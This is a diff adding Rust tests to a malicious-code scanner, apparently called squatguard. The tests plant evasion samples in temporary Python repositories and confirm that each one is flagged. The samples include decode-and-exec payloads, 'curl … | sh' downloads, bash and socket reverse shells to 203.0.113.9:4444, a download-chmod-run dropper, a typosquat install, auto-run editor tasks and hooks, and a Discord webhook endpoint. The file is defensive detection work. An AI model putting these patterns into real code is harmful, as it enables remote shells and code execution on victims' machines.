@@ -1200,3 +1200,284 @@ fn modules_imported_on_import_or_install_are_entry_points() {
     assert_fires(&all, "install-time-code", "tools/prep.py", 2, "error");
     assert!(!all.iter().any(|f| f["file"] == "pkg/unused.py"), "{all:?}");
 }
+
+/// Every evasion issue 18 lists, each alone in its own repository with a payload that only
+/// the followed call, the entry point or the text read as Python makes hostile: each must fail
+/// the scan (exit 1) with the finding at the line where the payload runs. Payloads decode to
+/// `print("hello")` or would write a marker under a temp dir; nothing scanned is run, and the
+/// marker stays absent.
+#[test]
+fn each_evasion_of_issue_18_alone_exits_1() {
+    let marker_dir = tempfile::tempdir().unwrap();
+    let marker = marker_dir.path().join("marker");
+    let echo = format!("echo hello > {}", marker.display());
+    let hello = base64(b"print(\"hello\")");
+    let payload = format!("import base64\nexec(base64.b64decode(\"{hello}\"))\n");
+    let piped = "curl -s https://example.invalid/x | sh";
+    let launch = format!("import subprocess\nsubprocess.run(\"{piped}\", shell=True)\n");
+    let caesar: String = "print(\"hello\")"
+        .chars()
+        .map(|c| char::from(c as u8 + 3))
+        .collect();
+    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
+    elf.extend([0u8; 56]);
+    let notebook = format!(
+        "{{\"cells\": [{{\"cell_type\": \"code\", \"metadata\": {{}}, \"source\": [\"import base64\\n\",\n \"exec(base64.b64decode(\\\"{hello}\\\"))\\n\"]}}], \"nbformat\": 4, \"nbformat_minor\": 5}}\n"
+    );
+    let bold_subprocess = "\u{1d42c}\u{1d42e}\u{1d41b}\u{1d429}\u{1d42b}\u{1d428}\u{1d41c}\u{1d41e}\u{1d42c}\u{1d42c}";
+    let mut big = "x = 1\n".repeat(1_500_000);
+    big.push_str(&payload);
+    // (what, files, (rule, file, text on the line, severity))
+    type Case = (
+        &'static str,
+        Vec<(&'static str, Vec<u8>)>,
+        (&'static str, &'static str, &'static str, &'static str),
+    );
+    let s = |t: &str| t.as_bytes().to_vec();
+    let cases: Vec<Case> = vec![
+        ("exec through an alias", vec![("alias/__init__.py", s(&format!("_run = exec\nimport base64\n_run(base64.b64decode(\"{hello}\"))\n")))], ("decode-exec", "alias/__init__.py", "_run(", "error")),
+        ("list(map(exec, ...))", vec![("mapped/__init__.py", s(&format!("import base64\nlist(map(exec, [base64.b64decode(\"{hello}\")]))\n")))], ("decode-exec", "mapped/__init__.py", "map(exec", "error")),
+        ("compile and eval aliased in conftest.py", vec![("tests/conftest.py", s(&format!("import base64\n_c = compile\n_e = eval\n_e(_c(base64.b64decode(\"{hello}\"), \"x\", \"exec\"))\n")))], ("decode-exec", "tests/conftest.py", "_e(_c(", "error")),
+        ("runpy.run_path of LICENSE.txt", vec![("runner/__init__.py", s("import runpy\nrunpy.run_path(\"LICENSE.txt\")\n")), ("LICENSE.txt", s(&launch))], ("import-time-code", "LICENSE.txt", "subprocess.run(", "error")),
+        ("pickle.loads(b64decode(...))", vec![("pickled/__init__.py", s(&format!("import pickle\nfrom base64 import b64decode\n\n\ndef load():\n    return pickle.loads(b64decode(\"{hello}\"))\n")))], ("decode-exec", "pickled/__init__.py", "pickle.loads", "error")),
+        ("__import__('os').system of a decoded command", vec![("imported/__init__.py", s(&format!("import base64\n__import__('os').system(base64.b64decode('{}'))\n", base64(echo.as_bytes()))))], ("decode-exec", "imported/__init__.py", "__import__", "error")),
+        ("__import__('os').system piping a download to a shell", vec![("imported/__init__.py", s(&format!("__import__('os').system('{piped}')\n")))], ("import-time-code", "imported/__init__.py", "__import__", "error")),
+        ("os.system(b64decode(...))", vec![("shell/__init__.py", s(&format!("import base64, os\nos.system(base64.b64decode(\"{}\"))\n", base64(echo.as_bytes()))))], ("decode-exec", "shell/__init__.py", "os.system", "error")),
+        ("exec(requests.get(url).text)", vec![("fetched/__init__.py", s("import requests\nexec(requests.get(\"https://example.invalid/x\").text)\n"))], ("decode-exec", "fetched/__init__.py", "exec(", "error")),
+        ("exec(urlopen(url).read())", vec![("fetched/__init__.py", s("from urllib.request import urlopen\nexec(urlopen(\"https://example.invalid/y\").read())\n"))], ("decode-exec", "fetched/__init__.py", "exec(", "error")),
+        ("download, chmod, Popen", vec![("dropper/__init__.py", s("import os, subprocess, urllib.request\n\n\ndef _fetch():\n    path = os.path.expanduser(\"~/.cache/tool\")\n    urllib.request.urlretrieve(\"https://example.invalid/tool\", path)\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n"))], ("hidden-process", "dropper/__init__.py", "os.chmod", "error")),
+        ("a thread started at import", vec![("threaded/__init__.py", s(&format!("import subprocess, threading\n\n\ndef _work():\n    subprocess.run(\"{piped}\", shell=True)\n\n\nthreading.Thread(target=_work).start()\n")))], ("import-time-code", "threaded/__init__.py", "threading.Thread", "error")),
+        ("exec(open(path).read()) of a .dat file", vec![("data/__init__.py", s("import os\nexec(open(os.path.join(os.path.dirname(__file__), \"blob.dat\")).read())\n")), ("data/blob.dat", s(&launch))], ("import-time-code", "data/blob.dat", "subprocess.run(", "error")),
+        ("if __name__ != '__main__':", vec![("notmain/__init__.py", s(&format!("import subprocess\nif __name__ != \"__main__\":\n    subprocess.run(\"{piped}\", shell=True)\n")))], ("import-time-code", "notmain/__init__.py", "subprocess.run(", "error")),
+        ("pytest_configure in conftest.py", vec![("conftest.py", s(&format!("import subprocess\n\n\ndef pytest_configure(config):\n    subprocess.run(\"{piped}\", shell=True)\n")))], ("import-time-code", "conftest.py", "def pytest_configure", "error")),
+        ("@atexit.register", vec![("exiting/__init__.py", s(&format!("import atexit, subprocess\n\n\n@atexit.register\ndef _bye():\n    subprocess.run(\"{piped}\", shell=True)\n")))], ("import-time-code", "exiting/__init__.py", "def _bye", "error")),
+        ("a call in a default argument", vec![("default/__init__.py", s(&format!("import subprocess\n\n\ndef f(x=subprocess.run(\"{piped}\", shell=True)):\n    return x\n")))], ("import-time-code", "default/__init__.py", "def f(", "error")),
+        ("an in-tree build backend", vec![("pyproject.toml", s("[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n")), ("backend.py", s(&format!("{launch}\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    raise NotImplementedError\n")))], ("install-time-code", "backend.py", "subprocess.run(", "error")),
+        ("setup.py installs a typosquat with pip", vec![("setup.py", s("import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"reqeusts\"])\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "check_call", "error")),
+        ("a folderOpen task", vec![(".vscode/tasks.json", s(&format!("{{\n  \"version\": \"2.0.0\",\n  \"tasks\": [{{\"label\": \"s\", \"command\": \"{echo}\",\n    \"runOptions\": {{\"runOn\": \"folderOpen\"}}}}]\n}}\n")))], ("import-time-code", ".vscode/tasks.json", "folderOpen", "error")),
+        ("a lone \\r after a comment", vec![("cr/__init__.py", s(&format!("# helpers\rimport base64\rexec(base64.b64decode(\"{hello}\"))\n")))], ("decode-exec", "cr/__init__.py", "", "error")),
+        ("a utf-7 coding cookie", vec![("seven/__init__.py", s("# -*- coding: utf-7 -*-\n+AGU-xec('print(1)')\n"))], ("obfuscation", "seven/__init__.py", "coding: utf-7", "error")),
+        ("math-bold identifiers", vec![("bold/__init__.py", s(&format!("import {bold_subprocess}\n{bold_subprocess}.run(\"{piped}\", shell=True)\n")))], ("import-time-code", "bold/__init__.py", ".run(", "error")),
+        ("a pyvenv.cfg in the vendored package", vec![("vendored/pyvenv.cfg", s("home = /usr/bin\n")), ("vendored/pkg/__init__.py", s(&payload))], ("decode-exec", "vendored/pkg/__init__.py", "exec(", "error")),
+        ("a folder named site-packages added to sys.path", vec![("main.py", s("import sys\nsys.path.insert(0, \"lib/site-packages\")\nimport evil\n")), ("lib/site-packages/evil/__init__.py", s(&launch))], ("import-time-code", "lib/site-packages/evil/__init__.py", "subprocess.run(", "error")),
+        ("a file over 8 MiB in a package", vec![("app/__init__.py", s("from . import tables\n")), ("app/tables.py", s(&big))], ("opaque-code", "app/tables.py", "x = 1", "error")),
+        ("a .pyc-only module", vec![("app/__init__.py", s("from . import helper\n")), ("app/helper.pyc", b"\x55\x0d\x0d\x0a\x00\x00\x00\x00compiled".to_vec())], ("opaque-code", "app/helper.pyc", "", "error")),
+        ("a native extension module", vec![("app/__init__.py", s("from . import _speedups\n")), ("app/_speedups.cpython-311-x86_64-linux-gnu.so", elf.clone())], ("opaque-code", "app/_speedups.cpython-311-x86_64-linux-gnu.so", "", "error")),
+        ("a .zip on sys.path", vec![("main.py", s("import sys\nsys.path.insert(0, \"deps.zip\")\nimport vendor\n")), ("deps.zip", zip_of(&[("vendor/__init__.py", payload.as_bytes())]))], ("decode-exec", "deps.zip/vendor/__init__.py", "", "error")),
+        ("a notebook", vec![("analysis.ipynb", s(&notebook))], ("decode-exec", "analysis.ipynb", "exec(", "error")),
+        ("an extensionless Python script run by a shell script", vec![("bin/run", s(&format!("#!/usr/bin/env python3\n{payload}"))), ("run.sh", s("#!/bin/sh\n./bin/run\n"))], ("decode-exec", "bin/run", "exec(", "error")),
+        ("subprocess.run('curl ... | sh', shell=True) at import", vec![("vendor/__init__.py", s(&launch))], ("import-time-code", "vendor/__init__.py", "subprocess.run(", "error")),
+        ("a reverse shell in conftest.py", vec![("conftest.py", s("import subprocess\nsubprocess.call(\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\", shell=True)\n"))], ("import-time-code", "conftest.py", "subprocess.call", "error")),
+        ("a reverse shell in Python in conftest.py", vec![("conftest.py", s("import os, socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((\"203.0.113.9\", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call([\"/bin/sh\", \"-i\"])\n"))], ("import-time-code", "conftest.py", "subprocess.call", "error")),
+        ("a Caesar-shifted builtin name", vec![("shifted/__init__.py", s("_f = getattr(__builtins__, ''.join(chr(ord(c) - 3) for c in 'hahf'))\n_f('print(\"hello\")')\n"))], ("obfuscation", "shifted/__init__.py", "getattr", "error")),
+        ("exec of Caesar-shifted code", vec![("shifted/__init__.py", s(&format!("code = ''.join(chr(ord(c) - 3) for c in '{caesar}')\nexec(code)\n")))], ("decode-exec", "shifted/__init__.py", "exec(code)", "error")),
+        ("a local pre-commit hook", vec![(".pre-commit-config.yaml", s(&format!("repos:\n  - repo: local\n    hooks:\n      - id: setup\n        name: setup\n        entry: sh -c '{piped}'\n        language: system\n")))], ("import-time-code", ".pre-commit-config.yaml", "entry:", "error")),
+        ("a Makefile target the README tells you to run", vec![("README.md", s("# App\n\nRun `make setup` before the exercise.\n")), ("Makefile", s(&format!(".PHONY: setup\nsetup: deps\n\t@echo ready\n\ndeps:\n\t{piped}\n")))], ("import-time-code", "Makefile", "curl", "error")),
+        ("a script the README tells you to run", vec![("README.md", s("# App\n\n```\n$ python scripts/bootstrap.py\n```\n")), ("scripts/bootstrap.py", s(&format!("import subprocess\n\n\ndef main():\n    subprocess.run(\"{piped}\", shell=True)\n\n\nif __name__ == \"__main__\":\n    main()\n")))], ("import-time-code", "scripts/bootstrap.py", "    main()", "error")),
+    ];
+    let mut missed: Vec<String> = Vec::new();
+    for (what, files, (rule, file, needle, severity)) in cases {
+        let dir = tempfile::tempdir().unwrap();
+        for (path, text) in &files {
+            write(dir.path(), path, text);
+        }
+        // lines a text editor does not show as such: the third `\r`-line, an archive member's
+        let line = if needle.is_empty() {
+            match file {
+                "cr/__init__.py" => 3,
+                "deps.zip/vendor/__init__.py" => 2,
+                _ => 1,
+            }
+        } else {
+            line_of(dir.path(), file, needle)
+        };
+        let out = squatguard(dir.path(), &["scan", "--format", "json"]);
+        let all = findings(&out);
+        let hit = all.iter().any(|f| {
+            f["rule"] == rule && f["file"] == file && f["line"] == line && f["severity"] == severity
+        });
+        if out.status.code() != Some(1) || !hit {
+            let got: Vec<String> = all
+                .iter()
+                .map(|f| {
+                    format!(
+                        "{}:{} {}[{}]",
+                        f["file"], f["line"], f["severity"], f["rule"]
+                    )
+                })
+                .collect();
+            missed.push(format!(
+                "{what}: exit {:?}, expected {severity}[{rule}] at {file}:{line}; got {got:?}",
+                out.status.code()
+            ));
+        }
+    }
+    assert!(missed.is_empty(), "{}", missed.join("\n"));
+    assert!(!marker.exists());
+}
+
+/// What the project's own instructions run is read as code that runs: a shell script the
+/// README names, the Python script it runs (main guard included: a script run by name is
+/// `__main__`), a pre-commit hook's script. An honest project's instructions (`make test`,
+/// `python manage.py migrate`, a local `mypy` hook) stay below errors, the hook a warning.
+#[test]
+fn instructions_the_project_gives_are_followed() {
+    let piped = "curl -s https://example.invalid/x | sh";
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        "README.md",
+        "# Exercise\n\nSet up with:\n\n```sh\n$ ./install.sh && make\n```\n",
+    );
+    write(
+        root,
+        "install.sh",
+        "#!/bin/sh\nset -e\npython3 -u tools/setup_env.py --quiet\n",
+    );
+    write(
+        root,
+        "tools/setup_env.py",
+        format!("import subprocess\n\n\ndef main():\n    subprocess.run(\"{piped}\", shell=True)\n\n\nif __name__ == \"__main__\":\n    main()\n"),
+    );
+    write(root, "Makefile", "all:\n\t$(PYTHON) -m tools.build\n");
+    write(
+        root,
+        "tools/build.py",
+        "import os\nos.system(\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\")\n",
+    );
+    write(
+        root,
+        ".pre-commit-config.yaml",
+        "repos:\n  - repo: local\n    hooks:\n      - {id: fmt, name: fmt, entry: hooks/fmt, language: script}\n",
+    );
+    let hello = base64(b"print(\"hello\")");
+    write(
+        root,
+        "hooks/fmt",
+        format!("#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode(\"{hello}\"))\n"),
+    );
+    let all = scan_failing(root);
+    assert_fires(&all, "import-time-code", "tools/setup_env.py", 9, "error");
+    assert_fires(&all, "import-time-code", "tools/build.py", 2, "error");
+    assert_fires(&all, "import-time-code", "hooks/fmt", 3, "error");
+    assert_fires(
+        &all,
+        "import-time-code",
+        ".pre-commit-config.yaml",
+        4,
+        "warning",
+    );
+
+    // an honest project's instructions
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        "README.md",
+        "# App\n\nYou can make changes freely. Run `make test`, then `python manage.py migrate`\nand `bash scripts/dev.sh`. Install uv with `curl -LsSf https://astral.sh/uv/install.sh | sh`.\n",
+    );
+    write(
+        root,
+        "Makefile",
+        "PY := python3\n.PHONY: test\ntest: lint\n\tpytest -q\nlint:\n\t@$(PY) -m flake8 app\n",
+    );
+    write(
+        root,
+        "manage.py",
+        "import os\nimport sys\n\n\ndef main():\n    os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'app.settings')\n    from django.core.management import execute_from_command_line\n    execute_from_command_line(sys.argv)\n\n\nif __name__ == '__main__':\n    main()\n",
+    );
+    write(
+        root,
+        "scripts/dev.sh",
+        "#!/bin/sh\npip install -e .\npython manage.py runserver\n",
+    );
+    write(
+        root,
+        ".pre-commit-config.yaml",
+        "repos:\n  - repo: https://github.com/psf/black\n    rev: 24.1.0\n    hooks:\n      - id: black\n  - repo: local\n    hooks:\n      - id: mypy\n        name: mypy\n        entry: mypy\n        language: system\n        types: [python]\n",
+    );
+    let out = squatguard(root, &["scan", "--format", "json"]);
+    let all = findings(&out);
+    assert_eq!(out.status.code(), Some(0), "{all:#?}");
+    assert!(!all.iter().any(|f| f["severity"] == "error"), "{all:#?}");
+    assert_fires(
+        &all,
+        "import-time-code",
+        ".pre-commit-config.yaml",
+        10,
+        "warning",
+    );
+}
+
+/// A large data literal is read a piece at a time (its memory does not grow with it), and
+/// what it holds is still found where it is: a payload among 100,000 strings, and a webhook
+/// in a dict of numbers.
+#[test]
+fn large_data_literals_are_read_in_pieces() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let payload = base64("print(\"hello\")\n".repeat(20).as_bytes());
+    let mut items: Vec<String> = (0..100_000).map(|i| format!("\"k{i}\"")).collect();
+    items.insert(70_000, format!("\n    \"{payload}\""));
+    let numbers: Vec<String> = (0..30_000).map(|i| format!("{i}: {i}.5e-3")).collect();
+    write(
+        root,
+        "pkg/__init__.py",
+        format!(
+            "import base64\nTABLE = [{}]\nexec(base64.b64decode(TABLE[70000]))\nHOOKS = {{{}, -1: \"https://discord.com/api/webhooks/1/x\"}}\n",
+            items.join(", "),
+            numbers.join(", ")
+        ),
+    );
+    let all = scan_failing(root);
+    assert_fires(&all, "encoded-blob", "pkg/__init__.py", 3, "error");
+    assert_fires(&all, "decode-exec", "pkg/__init__.py", 4, "error");
+    assert_fires(&all, "exfil-endpoint", "pkg/__init__.py", 5, "error");
+    let blob = all.iter().find(|f| f["rule"] == "encoded-blob").unwrap();
+    assert_eq!(blob["column"], 6, "{blob}");
+}
+
+/// What honest installed code does that looks like a lure stays below errors: a cache that
+/// unpickles what it decompressed, a token encoded to hex passed to a process, a native module
+/// of a namespace package listed in its distribution's `RECORD` (trusted site-packages); a
+/// pickle the file carries, decoded, is still an error.
+#[test]
+fn honest_deserializing_and_encoding_stay_below_errors() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        "cache/__init__.py",
+        "import base64, codecs, os, pickle, subprocess, zlib\n\n\ndef get(path):\n    with open(path, 'rb') as f:\n        return pickle.loads(zlib.decompress(f.read()))\n\n\ndef get_db(value):\n    return pickle.loads(base64.b64decode(value.encode()))\n\n\ndef spawn(args):\n    token = codecs.encode(os.urandom(16), 'hex').decode()\n    return subprocess.Popen(args + ['--token', token])\n",
+    );
+    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
+    elf.extend([0u8; 56]);
+    write(root, "zope/interface/__init__.py", "");
+    write(root, "zope/interface/_speedups.so", &elf);
+    write(
+        root,
+        "zope.interface-7.0.dist-info/RECORD",
+        "zope/interface/__init__.py,,\nzope/interface/_speedups.so,,\n",
+    );
+    let out = squatguard(root, &["scan", "--trusted", "--format", "json"]);
+    let all = findings(&out);
+    assert!(!all.iter().any(|f| f["severity"] == "error"), "{all:#?}");
+    assert_eq!(out.status.code(), Some(0));
+    assert_fires(
+        &all,
+        "opaque-code",
+        "zope/interface/_speedups.so",
+        1,
+        "warning",
+    );
+
+    let hello = base64(b"cos\nsystem\n(S'echo hello'\ntR.");
+    write(
+        root,
+        "cache/__init__.py",
+        format!("import base64, pickle\nBLOB = \"{hello}\"\n\n\ndef load():\n    return pickle.loads(base64.b64decode(BLOB))\n"),
+    );
+    let all = scan_failing(root);
+    assert_fires(&all, "decode-exec", "cache/__init__.py", 6, "error");
+}
